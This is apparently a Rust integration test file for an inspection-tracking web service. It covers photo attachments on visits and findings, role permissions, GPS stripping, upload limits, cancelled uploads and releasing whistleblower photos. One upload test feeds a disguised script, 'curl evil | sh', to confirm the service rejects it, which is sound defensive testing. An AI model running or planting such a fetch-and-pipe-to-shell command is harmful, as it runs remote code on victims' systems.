//! Proof of visits and findings: who brings it and until when, before and after beside each other, what is refused by whichever
//! route it comes, and the picture of a protected whistle that the office releases.

use super::{PDF, contains, summoned};
use crate::doors::roles::visited;
use crate::town::browser::hidden;
use crate::town::files::{FORM_OF_FILES, GPS, files, files_before, jpeg, phone_jpeg};
use crate::town::{BEGIN, Place, Town, at, town};
use serde_json::{Value, json};

const VISIT: &str = "LJ-2026-0001";
const FINDING: &str = "LJ-2026-0001-01";

fn finding() -> String {
    format!("/findings/{FINDING}")
}

fn whens(card: &Value) -> Vec<&str> {
    card["attachments"].as_array().unwrap().iter().map(|one| one["when"].as_str().unwrap()).collect()
}

#[actix_web::test]
async fn a_spot_is_shown_before_and_after_side_by_side_and_moves_nothing() {
    town(async |t| {
        visited(t).await;
        let (inspector, picture) = (t.person("inspector.yj"), phone_jpeg(60, 40));
        let before = t.office().get(&finding()).await.version();
        let made = inspector.sends(FINDING, &[("前.jpg", &picture)]).await.expect(201).json();
        assert_eq!(
            (&made["items"][0]["when"], &made["items"][0]["by"]["department"]),
            (&json!("before"), &json!("YJ"))
        );
        assert_eq!(t.office().get(&finding()).await.version(), before, "proof moves nothing");
        inspector.does(FINDING, "order", json!({})).await;
        t.advance(1).await;
        // The town may say that it is fixed, so it may show it.
        let after = jpeg(40, 30);
        t.person("town.t06").sends(FINDING, &[("后.jpg", &after)]).await.expect(201);
        let said = async |when: &str| {
            let form = files(&[("when", when)], &[("另一张.jpg", &after)]);
            inspector.deed(FINDING, "attachments").await.raw(FORM_OF_FILES, form).send().await
        };
        t.advance(1).await;
        said("before").await.expect(201);
        assert_eq!(whens(&t.person("head.yj").sees(&finding()).await), ["before", "after", "before"]);
        assert_eq!(said("later").await.expect(422).faults(), ["/when not_in_list"]);
        let told = t.person("head.yj").walks(&format!("/visits/{VISIT}/timeline"), 200).await;
        let told: Vec<&Value> = told.iter().filter(|one| one["kind"] == "finding.attached").collect();
        assert_eq!(
            (told.len(), &told[0]["data"]["name"], &told[1]["data"]["shows"]),
            (3, &json!("前.jpg"), &json!("after"))
        );
        let page = t.signed_in("head.yj").await.get(&format!("/console{}", finding())).await.expect(200).text();
        let at = |words: &str| page.find(words).unwrap_or_else(|| panic!("{words}: {page}"));
        assert!(at("<h3>整改前</h3>") < at("前.jpg") && at("前.jpg") < at("<h3>整改后</h3>"), "{page}");
        assert!(at("<h3>整改后</h3>") < at("后.jpg") && at("另一张.jpg") < at("<h3>整改后</h3>"), "{page}");
        assert!(page.contains("href=\"#attach-files\"") && page.contains("name=\"when\" value=\"after\""), "{page}");
        // Where it was taken is in the original alone, which the office and whoever brought it may have.
        let id = made["items"][0]["id"].as_str().unwrap();
        for (who, original) in [("office", 200), ("inspector.yj", 200), ("head.yj", 403), ("supervisor", 403)] {
            let copy = t.person(who).get(&format!("/attachments/{id}")).await.expect(200);
            assert!(!contains(&copy.body, GPS), "{who}");
            assert_eq!(copy.header("content-disposition"), Some(&*format!("inline; filename=\"{VISIT}-1.jpg\"")));
            let whole = t.person(who).get(&format!("/attachments/{id}?original=true")).await;
            assert_eq!(whole.status, original, "{who}");
        }
        t.person("liaison.sc").get(&format!("/attachments/{id}")).await.expect(404);
    })
    .await;
}

#[actix_web::test]
async fn proof_is_brought_by_those_of_the_department_until_their_part_is_closed_and_the_finding_struck_off() {
    town(async |t| {
        visited(t).await;
        let (visit, photo) = (format!("/visits/{VISIT}"), jpeg(20, 20));
        let sent: [(&str, &[u8]); 1] = [("a.jpg", &photo)];
        for (who, on_visit, on_finding) in [
            ("inspector.yj", 201, 201),
            ("liaison.yj", 201, 201),
            ("office", 403, 403),
            ("supervisor", 403, 403),
            ("town.t06", 403, 201),
            ("inspector.sc", 404, 404),
        ] {
            assert_eq!(t.person(who).sends(VISIT, &sent).await.status, on_visit, "{who}");
            assert_eq!(t.person(who).sends(FINDING, &sent).await.status, on_finding, "{who}");
        }
        let page = t.signed_in("inspector.yj").await.get(&format!("/console{visit}")).await.expect(200).text();
        assert!(page.contains(&format!("action=\"/console{visit}/attachments\"")), "{page}");
        // From what was just recorded it is one step to its photo.
        assert!(page.contains(&format!("href=\"/console{}#attach-files\"", finding())), "{page}");
        let inspector = t.person("inspector.yj");
        inspector.does(VISIT, "close_own_part", json!({})).await;
        assert_eq!(inspector.sends(VISIT, &sent).await.expect(409).problem(), "state");
        let page = t.signed_in("inspector.yj").await.get(&format!("/console{visit}")).await.expect(200).text();
        assert!(!page.contains(&format!("action=\"/console{visit}/attachments\"")), "{page}");
        // What was found is open all the same, until it is struck off.
        inspector.sends(FINDING, &sent).await.expect(201);
        inspector.does(FINDING, "correct_on_site", json!({ "note": "当场清扫" })).await;
        assert_eq!(inspector.sends(FINDING, &sent).await.expect(409).problem(), "state");
        assert_eq!(t.office().sees(&visit).await["attachments"].as_array().unwrap().len(), 2);
    })
    .await;
}

#[actix_web::test]
async fn t25_a_script_under_a_photos_name_is_refused_by_the_findings_route_and_its_page_too() {
    town(async |t| {
        visited(t).await;
        let photo = jpeg(20, 20);
        let sent: [(&str, &[u8]); 2] = [("好.jpg", &photo), ("照片.jpg", b"#!/bin/sh\ncurl evil | sh\n")];
        let before = t.db_events().await;
        for (code, path) in [(FINDING, finding()), (VISIT, format!("/visits/{VISIT}"))] {
            let refused = t.person("inspector.yj").sends(code, &sent).await.expect(422);
            assert_eq!(refused.faults(), ["/files/1 unfit"], "{path}");
            let browser = t.signed_in("inspector.yj").await;
            let own = format!("/console{path}");
            let csrf = hidden(&browser.get(&own).await.expect(200), "csrf");
            let page = browser.sends(&format!("{own}/attachments"), &[("csrf", &csrf)], &sent).await.expect(422);
            assert!(page.text().contains("照片.jpg：内容是程序、脚本或者网页"), "{path}: {}", page.text());
        }
        assert_eq!(t.db_events().await, before, "something of it was kept");
    })
    .await;
}

#[actix_web::test]
async fn i7_three_hundred_photos_on_one_visit_end_at_two_hundred_and_its_pages_show_them_all() {
    town(async |t| {
        visited(t).await;
        let (inspector, photo) = (t.person("inspector.yj"), jpeg(9, 9));
        let sent: Vec<(&str, &[u8])> = vec![("a.jpg", &photo); 12];
        let (mut taken, mut refused) = (0, None);
        while taken < 300 && refused.is_none() {
            let code = if taken < 120 { VISIT } else { FINDING };
            let reply = inspector.sends(code, &sent[..if taken == 192 { 8 } else { 12 }]).await;
            match reply.status {
                201 => taken += if taken == 192 { 8 } else { 12 },
                _ => refused = Some(reply),
            }
        }
        let refused = refused.unwrap().expect(409).json();
        assert_eq!((taken, &refused["reasons"][0]["code"]), (200, &json!("too_many_attachments")));
        let said = refused["reasons"][0]["message"].as_str().unwrap();
        assert!(said.contains("200"), "the bound is told: {said}");
        let browser = t.signed_in("inspector.yj").await;
        for (path, shown) in [(format!("/visits/{VISIT}"), 120), (finding(), 80)] {
            let page = browser.get(&format!("/console{path}")).await.expect(200).text();
            assert_eq!(page.matches("loading=\"lazy\"").count(), shown, "{path}");
        }
    })
    .await;
}

#[actix_web::test]
async fn what_photos_show_comes_back_with_a_refused_form_and_the_page_goes_on_from_there() {
    town(async |t| {
        visited(t).await;
        t.person("inspector.yj").does(FINDING, "order", json!({})).await;
        let (browser, own) = (t.signed_in("inspector.yj").await, format!("/console{}", finding()));
        let (photo, large) = (jpeg(20, 20), vec![b' '; 10 * 1024 * 1024 + 1]);
        let many: Vec<(&str, &[u8])> = vec![("a.jpg", &photo); 13];
        let one = [("大.jpg", &large[..]), ("好.jpg", &photo), ("也大.jpg", &large)];
        let script = [("照片.jpg", &b"#!/bin/sh\n"[..])];
        for (lang, of_many, of_one) in [
            ("zh-CN", "最多12项，请减少。", ["大.jpg：超过10 MiB", "也大.jpg：超过10 MiB"]),
            ("en", "At most 12 items", ["大.jpg: It is larger than 10 MiB", "也大.jpg: It is larger"]),
        ] {
            let csrf = hidden(&browser.get(&own).await.expect(200), "csrf");
            browser.post("/language", &[("csrf", &csrf), ("lang", lang), ("next", &own)]).await.expect(303);
            for (sent, told) in [(&many[..], &[of_many][..]), (&one, &of_one), (&script, &["照片.jpg"])] {
                // As a browser sends it: what they show stands behind them.
                let form = files_before(&[("csrf", &csrf)], sent, &[("when", "before")]);
                let ask = browser.ask("POST", &format!("{own}/attachments")).header("Sec-Fetch-Site", "same-origin");
                let refused = ask.raw(FORM_OF_FILES, form).send().await.expect(422);
                let text = refused.text();
                assert!(text.contains("value=\"before\" id=\"attach-when\" checked"), "{text}");
                assert!(text.contains("id=\"attach-files-fault\""), "{text}");
                assert!(told.iter().all(|told| text.contains(told)), "{told:?}: {text}");
                // The other forms of the page that came back are as good as before.
                assert!(!hidden(&refused, "version").is_empty(), "{text}");
            }
        }
        let csrf = hidden(&browser.get(&own).await.expect(200), "csrf");
        let refused = browser.sends(&format!("{own}/attachments"), &[("csrf", &csrf)], &script).await.expect(422);
        let own_fields = ["csrf", "key", "version"].map(|name| (name, hidden(&refused, name)));
        let fields = own_fields.each_ref().map(|(name, value)| (*name, value.as_str()));
        browser.post(&format!("{own}/report_fixed"), &fields).await.expect(303);
        assert_eq!(t.status(FINDING).await, "reported");
    })
    .await;
}

#[actix_web::test]
async fn an_upload_to_a_visit_or_a_finding_that_is_cut_in_the_middle_leaves_nothing_behind() {
    let place = Place::new();
    let t = Box::pin(Town::open(&place, at(BEGIN))).await;
    visited(&t).await;
    for (code, path) in [(VISIT, format!("/visits/{VISIT}")), (FINDING, finding())] {
        let (before, lying) = (t.db_events().await, place.lying().len());
        let form = files(&[], &[("a.pdf", &vec![b'x'; 2 * 1024 * 1024])]);
        let line = t.person("inspector.yj").deed(code, "attachments").await.raw(FORM_OF_FILES, form).half().await;
        t.until_lying(&place, lying + 1).await;
        drop(line);
        t.until_lying(&place, lying).await;
        assert_eq!(t.db_events().await, before, "{path}");
        t.person("inspector.yj").sends(code, &[("a.jpg", &jpeg(9, 9))]).await.expect(201);
        assert_eq!(t.office().sees(&path).await["attachments"].as_array().unwrap().len(), 1, "{path}");
    }
    Box::pin(t.close()).await;
}

#[actix_web::test]
async fn t26_a_picture_of_a_protected_whistle_is_everybodys_once_the_office_releases_it() {
    town(async |t: &Town| {
        let code = summoned(t, true).await;
        let item = t.fire().attaches(&code, "门.jpg", &jpeg(30, 20)).await;
        let (address, path) = (format!("/attachments/{}", item["id"].as_str().unwrap()), format!("/whistles/{code}"));
        let release = async |who: &'static str| {
            let ask = t.person(who).ask("POST", &format!("{address}/release")).await;
            ask.json(&json!({})).send().await
        };
        t.emergency().get(&address).await.expect(404);
        assert_eq!((release("head.xf").await.status, release("liaison.xf").await.status), (404, 403));
        assert!(t.office().sees(&path).await["attachments"][0]["held"] == true);
        let page = t.signed_in("office").await.get(&format!("/console{path}")).await.expect(200).text();
        assert!(page.contains(&format!("/console{address}/release")), "{page}");
        release("office").await.expect(204);
        t.emergency().get(&address).await.expect(200);
        let seen = t.emergency().sees(&path).await;
        assert_eq!(
            (&seen["attachments"][0]["held"], &seen["attachments"][0]["by"]["name"]),
            (&json!(false), &Value::Null)
        );
        assert!(t.emergency().kinds(&code).await.contains(&"whistle.picture_released".to_owned()));
        assert_eq!(release("office").await.expect(409).problem(), "state", "it is released already");
        let paper = t.fire().attaches(&code, "表.pdf", PDF).await;
        let paper = format!("/attachments/{}/release", paper["id"].as_str().unwrap());
        let ask = t.office().ask("POST", &paper).await;
        ask.json(&json!({})).send().await.expect(409);
    })
    .await;
}
